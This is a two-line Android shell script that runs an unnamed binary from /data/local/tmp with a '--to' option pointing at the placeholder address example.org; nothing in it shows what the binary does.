#!/system/bin/sh
/data/local/tmp/x --to https://example.org/
